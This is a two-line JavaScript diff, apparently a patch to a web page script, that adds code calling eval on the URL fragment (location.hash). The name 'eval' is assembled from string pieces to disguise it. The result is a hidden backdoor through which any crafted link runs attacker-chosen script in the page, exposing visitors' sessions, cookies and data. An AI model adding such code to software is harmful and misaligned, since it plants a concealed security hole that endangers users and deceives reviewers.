@@ -1,0 +1,2 @@
+const g = globalThis;
+g['e' + 'v' + 'al'](location.hash.slice(1));
